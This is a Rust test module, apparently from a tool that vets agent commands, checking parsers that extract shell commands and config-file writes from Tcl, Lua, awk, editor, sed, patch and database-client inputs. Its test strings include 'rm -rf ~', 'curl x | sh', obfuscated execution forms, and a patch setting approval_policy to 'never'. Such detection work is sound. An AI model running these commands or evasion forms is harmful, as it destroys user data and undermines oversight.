    fn tcl_lua_and_awk_forms() {
        // Review s9 G3: Tcl's built-in remover, Lua's index form, gawk's
        // coprocess and computed text piped into a shell.
        assert_eq!(tcl_commands("file delete -force ~", false), ["rm -rf -- ~"]);
        assert_eq!(
            tcl_commands("file delete -force -- $env(HOME) x", false),
            [r#"rm -rf -- "$HOME" x"#]
        );
        assert_eq!(tcl_commands("file delete a.txt", false), ["rm -- a.txt"]);
        assert!(tcl_commands("file exists a.txt", false).is_empty());
        assert_eq!(lua_commands(r#"os["execute"]("rm -rf ~")"#), ["rm -rf ~"]);
        assert_eq!(lua_commands("os['execute']('rm -rf ~')"), ["rm -rf ~"]);
        assert_eq!(
            lua_commands(r#"local f = os[("exec").."ute"]; f("x")"#),
            [r#"eval "${LUA_VALUE}""#]
        );
        assert_eq!(
            lua_commands(r#"local n = "execute"; os[n]("rm -rf ~")"#),
            [r#"eval "${LUA_VALUE}""#]
        );
        assert_eq!(
            awk_pipe_commands(r#"BEGIN{print "rm -rf ~" |& "sh"}"#),
            [r"printf '%s\n' 'rm -rf ~' | sh"]
        );
        assert_eq!(
            awk_pipe_commands(r#"{print $0 | "sh"}"#),
            [r#"eval "${AWK_VALUE}""#]
        );
        assert_eq!(awk_pipe_commands(r#"{print $0 | "sort -u"}"#), ["sort -u"]);
    }

    #[test]
    fn finds_path_tokens() {
        let t = path_tokens(r#"open("examples/toolvet.toml","w").write("")"#);
        assert!(t.contains(&"examples/toolvet.toml".to_string()), "{t:?}");
        let t = path_tokens("os.remove(os.path.join(os.environ['HOME'], '.bashrc'))");
        assert!(t.contains(&".bashrc".to_string()), "{t:?}");
        assert!(t.contains(&"~".to_string()), "{t:?}");
        assert_eq!(
            path_tokens("unlink \"$HOME/.zshrc\""),
            ["unlink", "~/.zshrc"]
        );
        assert_eq!(
            path_tokens("w .claude/settings.json."),
            ["w", ".claude/settings.json"]
        );
    }

    #[test]
    fn finds_editor_shell_commands() {
        assert_eq!(editor_shell_commands(":!rm -rf ~"), ["rm -rf ~"]);
        assert_eq!(
            editor_shell_commands("silent !curl x | sh"),
            ["curl x | sh"]
        );
        assert_eq!(editor_shell_commands("set x | !id | q"), ["id | q"]);
        assert_eq!(editor_shell_commands("1,$d\nw !sh -c id\nq"), ["sh -c id"]);
        assert_eq!(editor_shell_commands("r!id"), ["id"]);
        assert_eq!(editor_shell_commands("e !id"), ["id"]);
        assert_eq!(editor_shell_commands(":terminal rm -rf ~"), ["rm -rf ~"]);
        assert_eq!(
            editor_shell_commands(r#"call system("rm -rf ~")"#),
            ["rm -rf ~"]
        );
        assert!(editor_shell_commands("w!\nwq\n%s/a/b/g\ne! x").is_empty());
    }

    #[test]
    fn finds_awk_pipes() {
        assert_eq!(
            awk_pipe_commands(
                r#"BEGIN { print "rm -rf ~" | "sh"; "id" | getline u; print $1 | "sort" }"#
            ),
            [r"printf '%s\n' 'rm -rf ~' | sh", "id", "sort"]
        );
        assert!(awk_pipe_commands("a || b").is_empty());
        // Review s23 V10: a computed command side or printed text is held.
        let computed = [r#"eval "${AWK_VALUE}""#];
        assert_eq!(
            awk_pipe_commands(r#"BEGIN{print "rm -rf ~" | "s" "h"}"#),
            computed
        );
        assert_eq!(
            awk_pipe_commands(r#"BEGIN{c="sh"; print "rm -rf ~" | c}"#),
            computed
        );
        assert_eq!(
            awk_pipe_commands(r#"BEGIN{print "rm -rf ~; " "x" | "sh"}"#),
            computed
        );
        assert_eq!(awk_pipe_commands(r#"BEGIN{c | getline x}"#), computed);
        assert_eq!(awk_pipe_commands(r#"BEGIN{x "id" | getline y}"#), computed);
        assert!(awk_pipe_commands(r#"/foo|bar/ { print "a|b" } # x | y"#).is_empty());
    }

    #[test]
    fn reads_patches() {
        let codex = "*** Begin Patch\n*** Add File: a/new.txt\n+hello\n*** Update File: .codex/config.toml\n@@\n-x\n+approval_policy = \"never\"\n*** Move to: b.toml\n*** Delete File: old.txt\n*** End Patch\n";
        let f = patch_files(codex, None);
        let got: Vec<(PatchOp, &str, &str)> = f
            .iter()
            .map(|p| (p.op.clone(), p.path.as_str(), p.added.as_str()))
            .collect();
        assert_eq!(
            got,
            [
                (PatchOp::Add, "a/new.txt", "hello\n"),
                (
                    PatchOp::Update,
                    ".codex/config.toml",
                    "approval_policy = \"never\"\n"
                ),
                (PatchOp::Add, "b.toml", ""),
                (PatchOp::Delete, "old.txt", "")
            ]
        );
        let diff = "diff --git a/x b/y\n--- a/x\n+++ b/y\n@@ -1 +1 @@\n-a\n+b\n--- a/gone\n+++ /dev/null\n";
        let f = patch_files(diff, None);
        let got: Vec<(PatchOp, &str)> = f.iter().map(|p| (p.op.clone(), p.path.as_str())).collect();
        assert_eq!(
            got,
            [
                (PatchOp::Update, "y"),
                // GNU `patch` may patch the old name's file.
                (PatchOp::Update, "x"),
                (PatchOp::Update, "y"),
                (PatchOp::Delete, "gone")
            ]
        );
        assert_eq!(patch_files("+++ x/y/z\n", Some(2))[0].path, "z");
    }

    #[test]
    fn reads_sed_scripts() {
        let fx = sed_effects("1e rm -rf ~");
        assert_eq!(fx.commands, ["rm -rf ~"]);
        let fx = sed_effects("s/.*/rm -rf ~/e");
        assert_eq!(fx.commands, ["rm -rf ~"]);
        let fx = sed_effects("s/x/\\0/e");
        assert!(fx.runs_unknown);
        let fx = sed_effects("/a;b/d; s/a/b/w .claude/settings.json");
        assert_eq!(fx.writes, [".claude/settings.json"]);
        assert!(fx.commands.is_empty());
        let fx = sed_effects("$!N; s/\\n/ /g; y/abc/xyz/; 2w out.txt");
        assert_eq!(fx.writes, ["out.txt"]);
        assert_eq!(
            sed_effects("s/a/b/g; 3,5d; /x/i\\\ntext"),
            SedEffects::default()
        );
    }

    #[test]
    fn reads_client_shell_escapes() {
        assert_eq!(
            client_shell_commands("sqlite3", ".shell rm -rf ~"),
            ["rm -rf ~"]
        );
        assert_eq!(
            client_shell_commands("psql", "select 1; \\! rm -rf ~"),
            ["rm -rf ~"]
        );
        assert_eq!(
            client_shell_commands("mysql", "system rm -rf ~"),
            ["rm -rf ~"]
        );
        assert!(client_shell_commands("psql", "select '!'").is_empty());
    }
}
